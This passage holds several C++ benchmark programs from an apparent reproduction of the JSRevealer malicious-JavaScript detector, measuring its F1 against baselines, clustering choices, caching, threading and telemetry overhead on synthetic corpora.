  if (!relax_timing && parse_nodes_per_s < 0.8 * kBaselineParseNodesPerSec) {
    std::fprintf(stderr, "FAIL: parse throughput fell >20%% below baseline\n");
    ok = false;
  }
  if (!relax_timing && visit_nodes_per_s < 0.8 * kBaselineVisitNodesPerSec) {
    std::fprintf(stderr, "FAIL: visit throughput fell >20%% below baseline\n");
    ok = false;
  }
  if (!widths_identical) ok = false;
  std::printf(ok ? "ast_layout gates passed\n" : "ast_layout gates FAILED\n");
  return ok ? 0 : 1;
}
