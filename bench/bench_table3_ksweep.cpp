// Table III reproduction: average F1 on obfuscated data over the
// (K_benign, K_malicious) grid around the elbow values, leading to the
// paper's choice of 11/10.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto base = bench::default_harness_config();
  // The paper sweeps around the elbow values; its Table III grid covers
  // benign K in {9,10,11,12} x malicious K in {8,9,10,11} (subset shown).
  const int benign_ks[] = {9, 10, 11, 12};
  const int malicious_ks[] = {8, 9, 10, 11};

  std::printf("TABLE III: average F1 (%%) on obfuscated data per clustering "
              "K pair\n");
  std::printf("paper: best at K_benign=11, K_malicious=10 (F1 84.8)\n\n");

  std::vector<std::string> header = {"K_b \\ K_m"};
  for (const int km : malicious_ks) header.push_back(std::to_string(km));
  Table t(header);

  double best_f1 = -1.0;
  int best_kb = 0, best_km = 0;
  for (const int kb : benign_ks) {
    std::vector<std::string> row = {std::to_string(kb)};
    for (const int km : malicious_ks) {
      bench::HarnessConfig cfg = base;
      cfg.repeats = 1;  // 16-cell grid: one repeat per cell keeps this sane
      cfg.jsrevealer.k_benign = kb;
      cfg.jsrevealer.k_malicious = km;
      const bench::ResultGrid grid =
          bench::run_grid(cfg, {bench::jsrevealer_factory(cfg)});
      const auto& by_cond = grid.begin()->second;
      double avg = 0.0;
      for (const auto& cond : bench::condition_names()) {
        if (cond == "Baseline") continue;
        avg += by_cond.at(cond).f1;
      }
      avg /= 4.0;
      row.push_back(bench::pct(avg));
      if (avg > best_f1) {
        best_f1 = avg;
        best_kb = kb;
        best_km = km;
      }
      std::fprintf(stderr, "  [K_b=%d K_m=%d avgF1=%.1f]\n", kb, km,
                   avg * 100);
    }
    t.add_row(row);
  }
  std::fputs(t.to_string().c_str(), stdout);
  std::printf("\nbest pair: K_benign=%d, K_malicious=%d (avg F1 %s%%)\n",
              best_kb, best_km, bench::pct(best_f1).c_str());
  return 0;
}
