// Shared-analysis cache benchmark: quantifies what the parse-once
// ScriptAnalysis layer buys a multi-detector evaluation.
//
// Trains all five detectors (JSRevealer + 4 baselines), then evaluates the
// held-out test set twice:
//   uncached — every detector gets the raw corpus, so each parsing detector
//              front-ends every script itself (CUJO is lex-only and never
//              parses): expected parse count = 4 * N;
//   cached   — one AnalyzedCorpus is built up front and shared by all five:
//              expected parse count = N, all of it in analyze_corpus.
// The parse counts are ASSERTED against js::parse_invocations() and the two
// modes' confusion matrices are asserted identical; any violation exits 1.
// Emits BENCH_analysis_cache.json.
//
// Scale knob: JSREV_BENCH_CACHE_SCRIPTS sets the corpus size per class.
#include <cstdio>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "js/parser.h"
#include "obs/json.h"
#include "util/rng.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

bool same_confusion(const ml::Metrics& a, const ml::Metrics& b) {
  return a.cm.tp == b.cm.tp && a.cm.tn == b.cm.tn && a.cm.fp == b.cm.fp &&
         a.cm.fn == b.cm.fn;
}

}  // namespace

int main() {
  const std::size_t per_class =
      bench::env_or("JSREV_BENCH_CACHE_SCRIPTS", 120);
  const std::size_t train_per_class = per_class * 2 / 3;

  dataset::GeneratorConfig gc;
  gc.seed = 2025;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(gc.seed);
  const dataset::Split split =
      dataset::split_corpus(corpus, train_per_class, train_per_class, rng);
  const dataset::Corpus& test = split.test;
  const std::size_t n = test.samples.size();

  core::Config jc;
  jc.seed = gc.seed;
  jc.lint_features = true;  // exercises the shared lint/extract artifact
  jc.embed_epochs = 6;
  jc.cluster_sample_per_class = 400;
  std::vector<std::unique_ptr<detect::Detector>> detectors;
  detectors.push_back(std::make_unique<core::JsRevealer>(jc));
  for (const detect::BaselineKind kind : detect::kAllBaselines) {
    detectors.push_back(detect::make_baseline(kind, gc.seed));
  }

  std::printf("analysis cache: %zu test scripts, %zu detectors\n", n,
              detectors.size());
  for (const auto& d : detectors) {
    d->train(split.train);
    std::printf("  trained %s\n", d->name().c_str());
  }

  // ---- uncached: every parsing detector front-ends each script itself ----
  std::vector<ml::Metrics> uncached(detectors.size());
  const std::uint64_t parses_before_uncached = js::parse_invocations();
  Timer t_uncached;
  for (std::size_t d = 0; d < detectors.size(); ++d) {
    uncached[d] = detectors[d]->evaluate(test);
  }
  const double uncached_ms = t_uncached.elapsed_ms();
  const std::uint64_t uncached_parses =
      js::parse_invocations() - parses_before_uncached;

  // ---- cached: one shared AnalyzedCorpus for all five detectors ----------
  std::vector<ml::Metrics> cached(detectors.size());
  const std::uint64_t parses_before_cached = js::parse_invocations();
  Timer t_cached;
  const analysis::AnalyzedCorpus analyzed = detect::analyze_corpus(test);
  for (std::size_t d = 0; d < detectors.size(); ++d) {
    cached[d] = detectors[d]->evaluate(analyzed);
  }
  const double cached_ms = t_cached.elapsed_ms();
  const std::uint64_t cached_parses =
      js::parse_invocations() - parses_before_cached;

  // ---- assertions ---------------------------------------------------------
  // Four of the five detectors parse (CUJO is lex-only), so the uncached
  // sweep costs 4 parses per script; the cached sweep costs exactly the one
  // parse analyze_corpus performs.
  bool ok = true;
  const std::uint64_t expect_uncached = 4 * static_cast<std::uint64_t>(n);
  if (uncached_parses != expect_uncached) {
    std::fprintf(stderr, "FATAL: uncached parse count %llu != expected %llu\n",
                 static_cast<unsigned long long>(uncached_parses),
                 static_cast<unsigned long long>(expect_uncached));
    ok = false;
  }
  if (cached_parses != static_cast<std::uint64_t>(n)) {
    std::fprintf(stderr, "FATAL: cached parse count %llu != expected %llu\n",
                 static_cast<unsigned long long>(cached_parses),
                 static_cast<unsigned long long>(n));
    ok = false;
  }
  for (std::size_t d = 0; d < detectors.size(); ++d) {
    if (!same_confusion(uncached[d], cached[d])) {
      std::fprintf(stderr, "FATAL: %s verdicts differ cached vs uncached\n",
                   detectors[d]->name().c_str());
      ok = false;
    }
  }

  Table table({"mode", "parses", "wall ms", "accuracy (JSRevealer)"});
  table.add_row({"uncached", std::to_string(uncached_parses),
                 fmt(uncached_ms, 0), bench::pct(uncached[0].accuracy)});
  table.add_row({"cached", std::to_string(cached_parses), fmt(cached_ms, 0),
                 bench::pct(cached[0].accuracy)});
  std::printf("\n%s\n", table.to_string().c_str());
  std::printf("parse reduction: %sx fewer parses, %.2fx wall speedup\n",
              fmt(static_cast<double>(uncached_parses) /
                      static_cast<double>(cached_parses),
                  2)
                  .c_str(),
              uncached_ms / cached_ms);
  std::printf("verdicts identical cached vs uncached: %s\n",
              ok ? "yes" : "NO");

  obs::JsonWriter w;
  obs::write_bench_header(w, "analysis_cache");
  w.kv("test_scripts", static_cast<std::uint64_t>(n))
      .kv("detectors", static_cast<std::uint64_t>(detectors.size()))
      .key("uncached")
      .begin_object()
      .kv("parses", uncached_parses)
      .kv_fixed("wall_ms", uncached_ms, 1)
      .end_object()
      .key("cached")
      .begin_object()
      .kv("parses", cached_parses)
      .kv_fixed("wall_ms", cached_ms, 1)
      .end_object()
      .kv_fixed("parse_reduction",
                static_cast<double>(uncached_parses) /
                    static_cast<double>(cached_parses),
                3)
      .kv("verdicts_identical", ok)
      .end_object();
  std::ofstream json("BENCH_analysis_cache.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_analysis_cache.json\n");
  return ok ? 0 : 1;
}
