// Malware family classification bench (the paper's future-work extension):
// top-1 family accuracy on held-out malicious samples, with the confusion
// matrix across the six modeled families.
#include <cstdio>

#include "bench_config.h"
#include "core/family_classifier.h"
#include "util/string_util.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto hc = bench::default_harness_config();
  dataset::GeneratorConfig gc;
  gc.seed = hc.seed;
  gc.benign_count = hc.benign_count;
  gc.malicious_count = hc.malicious_count * 2;  // families need support
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(hc.seed ^ 0xf00d);
  const dataset::Split split = dataset::split_corpus(
      corpus, hc.train_per_class, hc.train_per_class, rng);

  core::JsRevealer detector(hc.jsrevealer);
  std::fprintf(stderr, "training detector...\n");
  detector.train(split.train);

  core::FamilyClassifier families;
  const std::size_t used = families.train(detector, split.train);
  std::printf("FAMILY CLASSIFICATION (future-work extension)\n");
  std::printf("trained on %zu malicious samples across %zu families\n\n",
              used, families.families().size());

  const double train_acc = families.evaluate(detector, split.train);
  const double test_acc = families.evaluate(detector, split.test);
  std::printf("top-1 family accuracy: train %s%%, held-out %s%% "
              "(chance: %s%%)\n\n",
              fmt(train_acc * 100, 1).c_str(), fmt(test_acc * 100, 1).c_str(),
              fmt(100.0 / static_cast<double>(families.families().size()), 1)
                  .c_str());

  const auto confusion = families.confusion(detector, split.test);
  std::vector<std::string> header = {"true \\ predicted"};
  for (const auto& f : families.families()) header.push_back(f);
  Table t(header);
  for (std::size_t r = 0; r < confusion.size(); ++r) {
    std::vector<std::string> row = {families.families()[r]};
    for (const double v : confusion[r]) row.push_back(fmt(v * 100, 0));
    t.add_row(row);
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
