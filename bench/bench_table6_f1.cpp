// Table VI reproduction: F1-measure of JSRevealer vs the four baselines,
// unobfuscated and per obfuscator.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto cfg = bench::default_harness_config();
  const bench::ResultGrid grid =
      bench::run_grid(cfg, bench::standard_factories(cfg));

  std::printf("TABLE VI: F1-measure (%%) per detector and obfuscator\n");
  std::printf("paper: JSRevealer 99.4/88.4/81.5/75.4/94.2 — highest on "
              "every obfuscated column except JSTAP on Jshaman\n\n");

  std::vector<std::string> header = {"Detector"};
  for (const auto& c : bench::condition_names()) header.push_back(c);
  Table t(header);
  for (const auto& [det, by_cond] : grid) {
    std::vector<std::string> row = {det};
    for (const auto& c : bench::condition_names()) {
      row.push_back(bench::pct(by_cond.at(c).f1));
    }
    t.add_row(row);
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
