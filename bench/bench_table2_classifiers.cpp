// Table II reproduction: JSRevealer's final classifier sweep (SVM, logistic
// regression, decision tree, Gaussian naive Bayes, random forest) trained
// and tested on unobfuscated data.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto hc = bench::default_harness_config();
  const ml::ClassifierKind kinds[] = {
      ml::ClassifierKind::kSvm, ml::ClassifierKind::kLogisticRegression,
      ml::ClassifierKind::kDecisionTree,
      ml::ClassifierKind::kGaussianNaiveBayes,
      ml::ClassifierKind::kRandomForest};

  std::printf("TABLE II: classifier choice on unobfuscated data "
              "(K_benign=7, K_malicious=4 as the paper's elbow values)\n");
  std::printf("paper: all close; random forest best (acc 99.4 / F1 99.4)\n\n");

  Table t({"Classifier", "Accuracy", "F1", "FPR", "FNR"});
  for (const auto kind : kinds) {
    bench::HarnessConfig cfg = hc;
    cfg.jsrevealer.classifier = kind;
    // Table II uses the elbow K values (7/4); Table III refines them later.
    cfg.jsrevealer.k_benign = 7;
    cfg.jsrevealer.k_malicious = 4;

    std::vector<ml::Metrics> runs;
    for (int rep = 0; rep < cfg.repeats; ++rep) {
      const std::uint64_t seed =
          cfg.seed + static_cast<std::uint64_t>(rep) * 7919;
      dataset::GeneratorConfig gc;
      gc.seed = seed;
      gc.benign_count = cfg.benign_count;
      gc.malicious_count = cfg.malicious_count;
      const dataset::Corpus corpus = dataset::generate_corpus(gc);
      Rng rng(seed ^ 0xabcdef);
      const dataset::Split split = dataset::split_corpus(
          corpus, cfg.train_per_class, cfg.train_per_class, rng);
      const dataset::Corpus test = dataset::balance(split.test, rng);

      auto det = bench::jsrevealer_factory(cfg)(seed);
      det->train(split.train);
      runs.push_back(det->evaluate(test));
      std::fprintf(stderr, "  [%s rep %d/%d]\n",
                   ml::classifier_kind_name(kind).c_str(), rep + 1,
                   cfg.repeats);
    }
    const ml::Metrics m = ml::average_metrics(runs);
    t.add_row({ml::classifier_kind_name(kind), bench::pct(m.accuracy),
               bench::pct(m.f1), bench::pct(m.fpr), bench::pct(m.fnr)});
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
