// Fig. 5 reproduction: elbow-method SSE curves for benign and malicious
// path-vector clustering as a function of K.
#include <cstdio>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/string_util.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto hc = bench::default_harness_config();
  dataset::GeneratorConfig gc;
  gc.benign_count = hc.benign_count;
  gc.malicious_count = hc.malicious_count;
  gc.seed = hc.seed;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::JsRevealer det(hc.jsrevealer);
  const int k_lo = 2, k_hi = 15;
  const auto benign_sse = det.sse_curve(corpus, /*label=*/0, k_lo, k_hi);
  const auto malicious_sse = det.sse_curve(corpus, /*label=*/1, k_lo, k_hi);

  std::printf("FIGURE 5: elbow method, SSE vs K (bisecting k-means on path "
              "vectors)\n");
  std::printf("paper: elbow near K=7 (benign) and K=4 (malicious)\n\n");
  Table t({"K", "SSE benign", "SSE malicious"});
  for (int k = k_lo; k <= k_hi; ++k) {
    const auto i = static_cast<std::size_t>(k - k_lo);
    t.add_row({std::to_string(k), fmt(benign_sse[i], 1),
               fmt(malicious_sse[i], 1)});
  }
  std::fputs(t.to_string().c_str(), stdout);

  // Report the elbow (largest relative SSE-drop falloff point).
  auto elbow = [&](const std::vector<double>& sse) {
    int best_k = k_lo + 1;
    double best_ratio = 0.0;
    for (std::size_t i = 1; i + 1 < sse.size(); ++i) {
      const double drop_before = sse[i - 1] - sse[i];
      const double drop_after = sse[i] - sse[i + 1];
      const double ratio = drop_after > 1e-12 ? drop_before / drop_after
                                              : drop_before;
      if (ratio > best_ratio) {
        best_ratio = ratio;
        best_k = static_cast<int>(i) + k_lo;
      }
    }
    return best_k;
  };
  std::printf("\nelbow estimate: benign K≈%d, malicious K≈%d\n",
              elbow(benign_sse), elbow(malicious_sse));
  return 0;
}
