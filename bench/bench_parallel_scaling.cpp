// Parallel-scaling benchmark: end-to-end train and batch-predict wall time
// at 1/2/4/8 threads on a synthetic corpus, reporting the speedup over the
// serial (threads=1) baseline and asserting that every width produces
// identical predictions. Emits BENCH_parallel.json so subsequent PRs can
// track the perf trajectory.
//
// Scale knobs (see bench_config.h): JSREV_BENCH_CORPUS scales the corpus;
// JSREV_BENCH_CLUSTER scales the per-class outlier/clustering sample (the
// FastABOD stage is O(n^2) in it, so it dominates at larger values).
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obs/json.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

struct ScalingPoint {
  std::size_t threads = 1;
  double train_ms = 0.0;
  double predict_ms = 0.0;
};

}  // namespace

int main() {
  const std::size_t per_class = bench::env_or("JSREV_BENCH_CORPUS", 160);
  const std::size_t train_per_class = per_class * 2 / 3;
  const std::size_t cluster_sample = bench::env_or("JSREV_BENCH_CLUSTER", 1500);

  dataset::GeneratorConfig gc;
  gc.seed = 2023;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(77);
  const dataset::Split split =
      dataset::split_corpus(corpus, train_per_class, train_per_class, rng);

  std::vector<std::string> test_sources;
  for (const auto& s : split.test.samples) {
    test_sources.push_back(s.source);
  }

  std::printf("parallel scaling: %zu train scripts, %zu test scripts, "
              "cluster sample %zu/class, %zu hardware threads\n",
              split.train.samples.size(), test_sources.size(), cluster_sample,
              resolve_threads(0));

  std::vector<ScalingPoint> points;
  std::vector<int> baseline_verdicts;
  for (const std::size_t threads : {1u, 2u, 4u, 8u}) {
    core::Config cfg;
    cfg.threads = threads;
    cfg.embed_epochs = 6;
    cfg.cluster_sample_per_class = cluster_sample;
    core::JsRevealer det(cfg);

    ScalingPoint p;
    p.threads = threads;
    Timer t_train;
    det.train(split.train);
    p.train_ms = t_train.elapsed_ms();

    Timer t_predict;
    const std::vector<int> verdicts = det.classify_all(test_sources);
    p.predict_ms = t_predict.elapsed_ms();

    if (baseline_verdicts.empty()) {
      baseline_verdicts = verdicts;
    } else if (verdicts != baseline_verdicts) {
      std::fprintf(stderr,
                   "FATAL: threads=%zu predictions differ from threads=1\n",
                   threads);
      return 1;
    }
    points.push_back(p);
    std::printf("  threads=%zu  train %.0f ms  predict %.0f ms\n", threads,
                p.train_ms, p.predict_ms);
  }

  Table table({"threads", "train ms", "train speedup", "predict ms",
               "predict speedup"});
  for (const ScalingPoint& p : points) {
    table.add_row({std::to_string(p.threads), fmt(p.train_ms, 0),
                   fmt(points[0].train_ms / p.train_ms, 2) + "x",
                   fmt(p.predict_ms, 0),
                   fmt(points[0].predict_ms / p.predict_ms, 2) + "x"});
  }
  std::printf("\n%s\n", table.to_string().c_str());
  std::printf("predictions identical across all widths: yes\n");

  obs::JsonWriter w;
  obs::write_bench_header(w, "parallel");
  w.kv("train_scripts", static_cast<std::uint64_t>(split.train.samples.size()))
      .kv("cluster_sample_per_class",
          static_cast<std::uint64_t>(cluster_sample))
      .key("points")
      .begin_array();
  for (const ScalingPoint& p : points) {
    w.begin_object()
        .kv("threads", static_cast<std::uint64_t>(p.threads))
        .kv_fixed("train_ms", p.train_ms, 1)
        .kv_fixed("predict_ms", p.predict_ms, 1)
        .kv_fixed("train_speedup", points[0].train_ms / p.train_ms, 3)
        .kv_fixed("predict_speedup", points[0].predict_ms / p.predict_ms, 3)
        .end_object();
  }
  w.end_array().end_object();
  std::ofstream json("BENCH_parallel.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_parallel.json\n");
  return 0;
}
