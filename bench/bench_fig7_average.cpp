// Fig. 7 reproduction: average performance (accuracy, F1, FPR, FNR) of each
// detector across the four obfuscators.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto cfg = bench::default_harness_config();
  const bench::ResultGrid grid =
      bench::run_grid(cfg, bench::standard_factories(cfg));

  std::printf("FIGURE 7: average metrics (%%) across the four obfuscators\n");
  std::printf("paper: avg F1 — JSRevealer 84.8 vs CUJO 63.2 / ZOZZLE 62.5 / "
              "JAST 66.1 / JSTAP 61.9\n\n");

  Table t({"Detector", "Accuracy", "F1", "FPR", "FNR"});
  for (const auto& [det, by_cond] : grid) {
    double acc = 0, f1 = 0, fpr = 0, fnr = 0;
    int n = 0;
    for (const auto& c : bench::condition_names()) {
      if (c == "Baseline") continue;
      const ml::Metrics& m = by_cond.at(c);
      acc += m.accuracy;
      f1 += m.f1;
      fpr += m.fpr;
      fnr += m.fnr;
      ++n;
    }
    t.add_row({det, bench::pct(acc / n), bench::pct(f1 / n),
               bench::pct(fpr / n), bench::pct(fnr / n)});
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
