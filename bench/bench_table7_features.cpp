// Table VII reproduction: the five most important random-forest features
// mapped back to their cluster-center path contexts (interpretability).
#include <cstdio>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/string_util.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto hc = bench::default_harness_config();
  dataset::GeneratorConfig gc;
  gc.seed = hc.seed;
  gc.benign_count = hc.benign_count;
  gc.malicious_count = hc.malicious_count;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(hc.seed ^ 0xabcdef);
  const dataset::Split split = dataset::split_corpus(
      corpus, hc.train_per_class, hc.train_per_class, rng);

  core::JsRevealer det(hc.jsrevealer);
  det.train(split.train);

  std::printf("TABLE VII: five most important features and their central "
              "paths\n");
  std::printf("paper finding: benign clusters express functionality "
              "implementation (functions, option objects, call dispatch); "
              "malicious clusters express data manipulation (integer ops, "
              "conditional assignments)\n\n");

  Table t({"Importance", "From", "Central path context"});
  for (const auto& e : det.feature_report(5)) {
    std::string path = e.central_path;
    if (path.size() > 110) path = path.substr(0, 107) + "...";
    t.add_row({fmt(e.importance, 3), e.from_benign ? "benign" : "malicious",
               path});
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
