// Shared experiment harness for the paper-reproduction benches.
//
// Implements the paper's protocol (Section IV-A4): generate the corpus,
// draw a balanced training set, train each detector, evaluate on the held-out
// test set both unobfuscated ("Baseline" row) and re-obfuscated by each of
// the four obfuscator models, repeating `repeats` times with different seeds
// and averaging.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "baselines/detector.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "ml/metrics.h"
#include "obfuscators/obfuscator.h"

namespace jsrev::bench {

struct HarnessConfig {
  std::size_t benign_count = 450;
  std::size_t malicious_count = 450;
  std::size_t train_per_class = 300;
  int repeats = 5;            // the paper repeats 5x and averages
  std::uint64_t seed = 2023;
  core::Config jsrevealer;    // pipeline config (ablations override fields)
  // Run every detector behind the static deobfuscation pipeline: training
  // sources are normalized up front and every test-condition analysis is
  // built with deobfuscate on, so all five detectors see normalized inputs
  // (bench_deob measures the robustness this recovers).
  bool deobfuscate = false;
};

/// Test-set conditions: unobfuscated plus the four obfuscators.
inline const std::vector<std::string>& condition_names() {
  static const std::vector<std::string> names = {
      "Baseline", "JavaScript-Obfuscator", "Jfogs", "JSObfu", "Jshaman"};
  return names;
}

/// detector -> condition -> averaged metrics.
using ResultGrid = std::map<std::string, std::map<std::string, ml::Metrics>>;

/// A detector factory: fresh instance per repeat (seeded).
using DetectorFactory =
    std::function<std::unique_ptr<detect::Detector>(std::uint64_t seed)>;

/// Returns the five standard factories: JSRevealer + 4 baselines.
std::vector<DetectorFactory> standard_factories(const HarnessConfig& cfg);

/// JSRevealer-only factory honoring cfg.jsrevealer (for ablations).
DetectorFactory jsrevealer_factory(const HarnessConfig& cfg);

/// Obfuscates every sample of a corpus with the given obfuscator model
/// (samples whose transform fails are kept unobfuscated — rare).
dataset::Corpus obfuscate_corpus(const dataset::Corpus& corpus,
                                 obf::ObfuscatorKind kind,
                                 std::uint64_t seed);

/// Runs the full protocol for the given detectors over all conditions.
ResultGrid run_grid(const HarnessConfig& cfg,
                    const std::vector<DetectorFactory>& factories);

/// Formats a percentage like the paper's tables ("99.4").
std::string pct(double fraction);

}  // namespace jsrev::bench
