// Measures what the admin telemetry plane costs the serving hot path, and
// hard-gates the two things that must hold before shipping it:
//
//   * a 10 Hz GET /metrics scrape running concurrently with saturation
//     classification load costs < 2% daemon throughput versus the same
//     load with no scraper (timing gate; relaxed under
//     JSREV_BENCH_ASAN_RELAX because sanitizer builds and noisy
//     containers make percent-level ratios meaningless);
//   * daemon verdicts stay bit-identical to the library path with the
//     admin server armed — telemetry must observe, never perturb.
//
// The scrape-overhead comparison interleaves conditions (unscraped round,
// scraped round, repeat) and takes best-of-N per condition, so slow drift
// in container CPU allotment hits both sides equally instead of biasing
// whichever condition ran last. Every scraped body is additionally run
// through validate_prometheus_text, so a malformed exposition fails the
// bench even when timing is relaxed. Emits BENCH_admin.json through the
// shared envelope (validated by `jsr_stats --validate`).
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include <sys/socket.h>
#include <unistd.h>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "obs/admin.h"
#include "obs/json.h"
#include "obs/prometheus.h"
#include "serve/frame.h"
#include "serve/serve.h"
#include "serve/server.h"
#include "util/timer.h"

namespace {

using namespace jsrev;
using Clock = std::chrono::steady_clock;

std::vector<std::string> build_eval_scripts(std::size_t per_class) {
  dataset::GeneratorConfig gc;
  gc.seed = 727272;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> scripts;
  for (const auto& s : corpus.samples) scripts.push_back(s.source);
  const std::size_t obf_share = corpus.samples.size() / 2;
  for (auto kind : obf::kAllObfuscators) {
    const auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < obf_share; ++i) {
      scripts.push_back(ob->obfuscate(corpus.samples[i].source, 900 + i));
    }
  }
  return scripts;
}

/// One saturation round over `fd`: back-to-back kClassify frames, read
/// until every verdict lands. Returns verdicts indexed like `scripts`.
std::vector<int> run_round(int fd, const std::vector<std::string>& scripts,
                           double* wall_ms_out) {
  const std::size_t n = scripts.size();
  std::vector<int> verdicts(n, -1);

  const Timer wall;
  std::thread reader([&] {
    std::string buf;
    char chunk[64 * 1024];
    std::size_t seen = 0;
    while (seen < n) {
      const ssize_t r = ::read(fd, chunk, sizeof(chunk));
      if (r <= 0) break;
      buf.append(chunk, static_cast<std::size_t>(r));
      for (;;) {
        serve::Frame f;
        std::size_t consumed = 0;
        if (serve::decode_frame(buf, buf.size() + (64u << 20), &f,
                                &consumed) != serve::DecodeStatus::kOk) {
          break;
        }
        buf.erase(0, consumed);
        if (f.type != serve::FrameType::kVerdict || f.id == 0 ||
            f.id > n) {
          continue;
        }
        verdicts[f.id - 1] = f.payload.empty() ? -1 : f.payload[0] - '0';
        ++seen;
      }
    }
  });

  for (std::size_t i = 0; i < n; ++i) {
    serve::Frame f;
    f.type = serve::FrameType::kClassify;
    f.id = static_cast<std::uint32_t>(i + 1);
    f.payload = scripts[i];
    const std::string bytes = serve::encode_frame(f);
    std::size_t off = 0;
    while (off < bytes.size()) {
      const ssize_t w = ::write(fd, bytes.data() + off, bytes.size() - off);
      if (w <= 0) break;
      off += static_cast<std::size_t>(w);
    }
  }
  reader.join();
  *wall_ms_out = wall.elapsed_ms();
  return verdicts;
}

/// Polls GET /metrics at `hz` until stopped. Bodies are stashed and only
/// validated after join() — a real scraper parses on its own host, so
/// client-side parse CPU must not be charged against daemon throughput
/// (this whole bench shares one core with the daemon). A single failed
/// fetch or malformed exposition poisons the whole bench.
struct Scraper {
  std::string endpoint;
  double hz = 10.0;
  std::atomic<bool> stop{false};
  std::size_t scrapes = 0;
  std::size_t failures = 0;
  std::string first_error;
  std::vector<std::string> bodies;
  std::thread thread;

  void start() {
    thread = std::thread([this] {
      const auto interval = std::chrono::duration_cast<Clock::duration>(
          std::chrono::duration<double>(1.0 / hz));
      auto next = Clock::now();
      while (!stop.load(std::memory_order_relaxed)) {
        std::string body;
        std::string err;
        const int status =
            obs::admin_http_get(endpoint, "/metrics", &body, &err);
        ++scrapes;
        if (status != 200) {
          if (failures++ == 0) {
            first_error = "status " + std::to_string(status) + " " + err;
          }
        } else {
          bodies.push_back(std::move(body));
        }
        next += interval;
        std::this_thread::sleep_until(next);
      }
    });
  }

  /// Stops the poll loop, then validates every stashed body (untimed).
  void join() {
    stop.store(true);
    if (thread.joinable()) thread.join();
    for (const std::string& body : bodies) {
      std::string err;
      if (!obs::validate_prometheus_text(body, &err)) {
        if (failures++ == 0) first_error = err;
      }
    }
    bodies.clear();
  }
};

}  // namespace

int main() {
  // More repeats than the other benches by default: the gate is a 2% ratio
  // on a shared-container CPU whose round-to-round drift is ±15%, and
  // best-of-N only converges on the true floor with enough rounds.
  const std::size_t repeats = bench::env_or("JSREV_BENCH_REPEATS", 7);
  const std::size_t train_per_class = bench::env_or("JSREV_BENCH_TRAIN", 80);
  const std::size_t eval_per_class = bench::env_or("JSREV_BENCH_CORPUS", 40);
  const bool relax_timing = std::getenv("JSREV_BENCH_ASAN_RELAX") != nullptr;
  const double scrape_hz = 10.0;
  const double overhead_limit = 0.02;

  // --- train + persist the artifact the daemon will map -------------------
  dataset::GeneratorConfig gc;
  gc.seed = 72;
  gc.benign_count = train_per_class;
  gc.malicious_count = train_per_class;
  core::Config cfg;
  cfg.seed = 72;
  std::fprintf(stderr, "[bench_admin] training on %zu+%zu scripts\n",
               gc.benign_count, gc.malicious_count);
  core::JsRevealer trainer(cfg);
  trainer.train(dataset::generate_corpus(gc));
  const std::string artifact_path = "admin_bench.jsrm";
  trainer.save_artifact_file(artifact_path);

  const std::vector<std::string> scripts = build_eval_scripts(eval_per_class);

  // --- library baseline verdicts ------------------------------------------
  core::ModelView library;
  library.map_file(artifact_path);
  const std::vector<int> library_verdicts = library.classify_all(scripts);

  // --- daemon with the admin plane armed ----------------------------------
  const serve::ServeModel model(artifact_path);
  serve::ServeOptions opts = model.options();
  serve::Server server(model, opts);
  serve::register_build_info(model, artifact_path);

  obs::AdminServer admin;
  admin.listen_tcp(0);
  admin.set_ready_check([&server] { return server.ready(); });
  admin.start();
  const std::string endpoint =
      "127.0.0.1:" + std::to_string(admin.bound_port());
  std::printf("bench_admin: admin plane on %s\n", endpoint.c_str());

  int sv[2];
  if (::socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) {
    std::fprintf(stderr, "bench_admin: socketpair failed\n");
    return 1;
  }
  std::thread server_thread([&] { server.serve_fd(sv[0], sv[0]); });

  // Warmup round: first contact pays allocator and page-cache costs that
  // belong to neither condition.
  {
    double wall = 0.0;
    (void)run_round(sv[1], scripts, &wall);
  }

  // Paired conditions: each repeat runs one unscraped and one scraped
